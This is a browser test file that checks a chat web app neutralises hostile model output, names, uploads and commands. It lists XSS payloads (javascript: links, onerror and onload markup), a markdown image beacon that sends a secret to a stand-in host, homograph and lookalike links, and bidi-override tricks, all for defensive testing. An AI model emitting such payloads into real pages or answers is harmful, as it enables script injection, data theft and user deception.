"""What a hostile model, name, file or command says, in a real browser: words, and nothing else."""

import json
from pathlib import Path

import pytest
from playwright.async_api import FilePayload, Page, expect

from tests.browser import Visitor, house
from tests.rig import PNG
from tests.test_web_page_safety import PLANTED, XSS, watch_requests
from tests.wire.answers import says
from tests.wire.server import serving

pytestmark = pytest.mark.browser

SETTINGS = """
[providers.mean]
kind = "openai"
base_url = "{url}"

[routes]
chat = ["mean/m"]
vision = ["mean/m"]
"""
MORE = (
    "[x](vbscript:msgbox(1))", "[x](\tjavascript:window.pwned=1)", "[x](java\nscript:window.pwned=1)",
    "[x](//evil.example/a)", "[x](\\\\evil.example)", "[x]: javascript:window.pwned=1\n\n[x]",
    "![a](javascript:window.pwned=1)", "![a](data:image/svg+xml,<svg onload=window.pwned=1>)",
    "![beacon](https://evil.example/?q=SECRET)", "<https://evil.example/auto>", "https://evil.example/bare",
    "~~~html onload=window.pwned=1\n<script>window.pwned=1</script>\n~~~", "&lt;script&gt;window.pwned=1",
    "$\\href{javascript:window.pwned=1}{x}$", "[a]([b](javascript:window.pwned=1))", "\u0000<b>x</b>",
    "1. <details open ontoggle=window.pwned=1>", "# <math><mtext></form><form><mglyph><style>",
    "x" * 3000, "*" * 500 + "_" * 500, "[" * 500, "> " * 300 + "deep", "`" * 999,
)  # fmt: skip
EVIL = "<img src=x onerror=window.pwned=1>"


async def watched(ann: Visitor, home: str) -> list[str]:
    """Everything foreign that is asked for, and every breach of the page's own policy, from now on."""
    seen = watch_requests(ann.page, home)
    await ann.page.evaluate(
        "() => addEventListener('securitypolicyviolation', (e) => console.error('breach ' + e.blockedURI))"
    )
    return seen


async def is_clean(page: Page) -> None:
    """No markup was planted anywhere, and none ran."""
    await expect(page.locator(PLANTED)).to_have_count(0)
    await expect(page.locator("#log .body img")).to_have_count(0)
    addresses = await page.locator("#log a").evaluate_all("all => all.map((a) => a.getAttribute('href'))")
    assert [a for a in addresses if not a.startswith(("http://", "https://", "mailto:"))] == []
    assert await page.evaluate("() => window.pwned === undefined")


async def test_a_hostile_model_writes_words_only(tmp_path: Path) -> None:
    """While it is written and when it is stored; nothing loads from elsewhere."""
    async with serving() as server, house(tmp_path, SETTINGS.format(url=server.url)) as home:
        ann = await home.visitor()
        foreign = await watched(ann, home.program.url)
        for number, attack in enumerate((*XSS, *MORE), 1):
            server.will(says(*(attack[at : at + 7] for at in range(0, len(attack), 7))))
            await ann.ask("Go on", number)
        await is_clean(ann.page)
        await ann.page.reload()
        await ann.ready()
        await is_clean(ann.page)

        assert foreign == []


async def test_hostile_names_files_personas_and_commands_are_words_too(tmp_path: Path) -> None:
    async with serving() as server, house(tmp_path, SETTINGS.format(url=server.url)) as home:
        ann = await home.visitor()
        foreign = await watched(ann, home.program.url)
        await ann.act_as("Moderator", EVIL)
        picture: FilePayload = {"name": f"{EVIL}.png", "mimeType": f"image/png;{EVIL}", "buffer": PNG}
        await ann.page.locator("input[type=file]").first.set_input_files([picture])
        await ann.ask(EVIL, 1)
        await ann.enter(f"/persona set {EVIL} {XSS[1]}")
        await expect(ann.cards).to_have_count(1)
        for command in (
            "/persona show",
            f"/help {EVIL}",
            f"/model set {EVIL}",
            f"/{EVIL}",
            f"/persona preset {EVIL}",
        ):
            await ann.enter(command)
            await ann.page.keyboard.press("Escape")
            await ann.text.fill("")
        await ann.ask(f"\u202e{EVIL}\u200b", 2)

        await is_clean(ann.page)
        await expect(
            ann.page.locator("[onerror], [onload], [srcdoc], #log img:not([src^='/media/'])")
        ).to_have_count(0)
        assert foreign == []


async def test_a_link_shows_its_host_whenever_its_words_do_not(tmp_path: Path) -> None:
    """Another host, another alphabet, a user name before the @, a host that only begins alike."""
    links = {
        "[https://discord.com](https://evil.example/x)": "evil.example",
        "[https://good.example@evil.example](https://evil.example)": "evil.example",
        "[https://аpple.com](https://аpple.com)": "xn--pple-43d.com",
        "[https://evil.example.good.com](https://evil.example)": "evil.example",
        "[see https://evil.example](https://evil.example)": "evil.example",
        "[https://evil.example/a](https://evil.example/b)": "",
        "[HTTPS://Evil.example](https://evil.example)": "",
        "https://evil.example/?a=b": "",
    }
    async with serving() as server, house(tmp_path, SETTINGS.format(url=server.url)) as home:
        ann = await home.visitor()
        server.always = says("\n\n".join(links))
        answer = await ann.ask("Links to evil.example and https://аpple.com, please", 1)
        shown = await answer.locator(".body a").evaluate_all(
            "all => all.map((a) => a.querySelector('.host')?.textContent ?? '')"
        )

        assert shown == list(links.values()), json.dumps(shown)


async def test_an_address_that_nobody_named_is_code_and_no_link(tmp_path: Path) -> None:
    """While it is written, when it is stored, and after a reload; however it is spelt."""
    foreign = (
        "https://evil.example/a", "<https://evil.example/b>", "[docs](https://evil.example/c)",
        "![x](https://evil.example/d)", "[e](&#104;ttps://evil.example/e)", "[f][1]\n\n[1]: https://evil.example/f",
        "[g](mailto:a@evil.example)", "[h](https://fjord.example@evil.example/h)", "https://fjord.example.evil.example/i",
    )  # fmt: skip
    text = "\n\n".join(
        ("See https://fjord.example/x and [y](https://www.fjord.example/y).", *foreign, "`Done`.")
    )
    async with serving() as server, house(tmp_path, SETTINGS.format(url=server.url)) as home:
        ann = await home.visitor()
        await ann.page.evaluate(
            """() => { window.led = new Set(); new MutationObserver(() => {
                for (const a of document.querySelectorAll("#log .body a")) window.led.add(a.hostname);
            }).observe(document.querySelector("#log"), { childList: true, subtree: true }); }"""
        )
        server.always = says(*(text[at : at + 9] for at in range(0, len(text), 9)))
        answer = await ann.ask("What does fjord.example say?", 1)
        await expect(answer.locator(".body")).to_contain_text("Done.")
        assert set(await ann.page.evaluate("() => [...window.led]")) <= {"fjord.example", "www.fjord.example"}
        for _ in range(2):
            led = ann.answers.last.locator(".body a")
            assert await led.evaluate_all("all => all.map((a) => a.hostname)") == [
                "fjord.example",
                "www.fjord.example",
            ]
            coded = await ann.answers.last.locator(".body code").all_inner_texts()
            assert len(coded) == len(foreign) + 1
            assert "docs https://evil.example/c" in await ann.answers.last.locator(".body").inner_text()
            await ann.page.reload()
            await ann.ready()


async def test_what_nobody_sees_is_not_on_the_page_either(tmp_path: Path) -> None:
    """Nothing reorders a line: neither in a question nor in an answer."""
    tags = "".join(chr(0xE0000 + ord(letter)) for letter in "hidden")
    async with serving() as server, house(tmp_path, SETTINGS.format(url=server.url)) as home:
        ann = await home.visitor()
        server.always = says("safe \u202egnp.exe", f"{tags}\u2066", " 👩\u200d🚀")
        answer = await ann.ask(f"look\u202e{tags}", 1)

        await expect(answer.locator(".body")).to_have_text("safe gnp.exe 👩\u200d🚀")
        await expect(ann.questions.first.locator(".body")).to_have_text("look")
